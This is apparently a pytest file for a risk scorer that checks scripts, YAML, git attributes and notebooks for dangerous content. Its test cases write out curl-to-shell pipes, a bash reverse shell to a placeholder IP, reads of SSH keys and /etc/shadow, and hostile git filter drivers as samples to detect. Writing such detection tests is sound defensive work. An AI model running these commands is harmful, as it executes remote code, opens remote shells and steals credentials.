"""Files that are not Python: scripts, YAML, container files, notebooks, attributes."""

from __future__ import annotations

import json

import pytest

from mai.proposal import Level
from tests.risk.conftest import Score, rules


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        ("run.sh", "curl https://x | sh\n", "shell.network-to-shell"),
        ("run.sh", "wget -qO- https://x | sudo bash -s\n", "shell.network-to-shell"),
        ("run.sh", 'bash -c "$(curl -fsSL https://x)"\n', "shell.network-to-shell"),
        ("run.sh", "curl x | python3 -\n", "shell.network-to-shell"),
        ("run.sh", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1\n", "shell.network-to-shell"),
        ("run.sh", "echo aWQ= | base64 -d | sh\n", "shell.network-to-shell"),
        ("x.ps1", "iex (iwr https://x)\n", "shell.network-to-shell"),
        ("ci.yml", "script: curl https://x | sh\n", "shell.network-to-shell"),
        ("run.sh", "sudo rm -r x\n", "shell.privilege"),
        ("run.sh", "chmod 4755 x\n", "shell.privilege"),
        ("stack.yml", "privileged: true\n", "shell.privilege"),
        ("stack.yml", "- /var/run/docker.sock:/x\n", "shell.privilege"),
        ("run.sh", "docker run --privileged x\n", "shell.privilege"),
        ("run.sh", "cat ~/.ssh/id_rsa\n", "sensitive-path.secrets"),
        ("app.service", "ExecStart=cat /etc/shadow\n", "sensitive-path.secrets"),
        ("run.sh", "echo hello\n", "process.script"),
        ("web/app.js", "fetch('x')\n", "process.script"),
        ("bin/tool", "#!/bin/bash\necho\n", "process.script"),
        ("ext/fast.c", "int main() {}\n", "process.script"),
    ],
)
def test_what_mai_does_not_parse_is_looked_at_line_by_line(
    score: Score, path: str, text: str, rule: str
) -> None:
    report = score({}, {path: text})
    assert report.level >= Level.MEDIUM
    assert rule in rules(report)
    assert score({path: text}, {path: text + "\n"}).level is Level.LOW


def test_an_ordinary_text_is_low(score: Score) -> None:
    head = {
        "README.md": "Install it with `curl https://x | sh`.\n",
        "data/names.csv": "a,b\n",
        "config/app.yml": "name: app\nport: 8080\n",
        "CHANGELOG.md": "- Read ~/.ssh/config.\n",
    }
    assert score({}, head).level is Level.LOW


def test_a_driver_in_attributes_is_blocked(score: Score) -> None:
    for line in (
        "*.py filter=evil",
        "*.bin diff=hex",
        "*.x merge=mine",
        "*.txt working-tree-encoding=UTF-7",
    ):
        assert "path.git-driver" in rules(score({}, {".gitattributes": line + "\n"}), Level.BLOCKED)
    for line in (
        "*.py text eol=lf",
        "*.py diff=python",
        "CHANGELOG.md merge=union",
        "*.png binary",
    ):
        assert score({}, {".gitattributes": line + "\n"}).level is Level.HIGH


def notebook(*cells: str) -> str:
    return json.dumps(
        {
            "nbformat": 4,
            "cells": [
                {"cell_type": "markdown", "source": ["# os.system('x')"]},
                *(
                    {"cell_type": "code", "source": cell.splitlines(keepends=True)}
                    for cell in cells
                ),
            ],
        }
    )


def test_the_code_cells_of_a_notebook_are_judged_like_code(score: Score) -> None:
    plain = notebook("import math\n", "math.sqrt(2)\n")
    assert score({}, {"a.ipynb": plain}).level is Level.LOW
    report = score({"a.ipynb": plain}, {"a.ipynb": notebook("import os\n", "os.system('ls')\n")})
    assert report.level >= Level.MEDIUM
    assert "process.shell" in rules(report)


@pytest.mark.parametrize("line", ["!pip install x", "%%bash", "%run x.py", "  !ls"])
def test_a_notebook_that_leaves_python_is_seen(score: Score, line: str) -> None:
    report = score({}, {"a.ipynb": notebook(f"x = 1\n{line}\ny = 2\n")})
    assert "notebook.magic" in rules(report, Level.MEDIUM)


def test_a_notebook_that_is_none_is_blocked(score: Score) -> None:
    assert score({}, {"a.ipynb": "{"}).level is Level.BLOCKED
    assert score({}, {"a.ipynb": notebook("def (:\n")}).level is Level.BLOCKED
